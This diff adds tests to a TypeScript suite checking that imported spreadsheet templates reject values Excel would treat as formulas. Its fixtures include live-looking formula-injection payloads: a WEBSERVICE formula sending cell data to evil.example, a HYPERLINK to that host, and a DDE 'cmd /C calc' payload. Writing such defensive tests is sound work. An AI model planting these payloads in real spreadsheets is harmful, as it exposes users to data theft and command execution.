@@ -58,3 +58,29 @@ describe("bad files", () => {
     expect(cjk.test(r.error.zh)).toBe(true);
   });
 });
+
+describe("imported templates are text only: nothing Excel would take as a formula (issue 9, item 4)", () => {
+  const withRow = (patch: Record<string, string>, where: "rows" | "name" | "defaults" = "rows") => {
+    const t = JSON.parse(JSON.stringify(TEMPLATES.find((x) => x.kind === "indicators")!)) as Template & { defaults?: Record<string, unknown> };
+    if (where === "rows") Object.assign(t.rows[0], patch);
+    else if (where === "name") Object.assign(t.name, patch);
+    else t.defaults = { ...(t.defaults ?? {}), ...patch };
+    return exportTemplates([t]);
+  };
+  test.each([
+    ["=HYPERLINK in a target", { period: '=HYPERLINK("http://evil.example","点我")' }, "rows"],
+    ["=WEBSERVICE in a name", { l3: '=WEBSERVICE("http://evil.example/?"&A1)' }, "rows"],
+    ["+ formula", { annual: "+A1*2" }, "rows"],
+    ["- formula", { annual: '-cmd|" /C calc"!A0' }, "rows"],
+    ["@ formula", { annual: "@SUM(A1:A9)" }, "rows"],
+    ["in the display name", { zh: "=1+1" }, "name"],
+    ["in a default", { name: "=HYPERLINK(\"x\")" }, "defaults"],
+  ] as const)("%s → refused, naming the field", (_n, patch, where) => {
+    expectError(withRow(patch as Record<string, string>, where), /不能以 = \+ - @ 开头写公式/, /must not start a formula/);
+  });
+
+  test("text that only looks numeric is still allowed (it is written as text)", () => {
+    const r = importTemplates(withRow({ period: "-5%", annual: "100%" }));
+    expect(r.ok).toBe(true);
+  });
+});
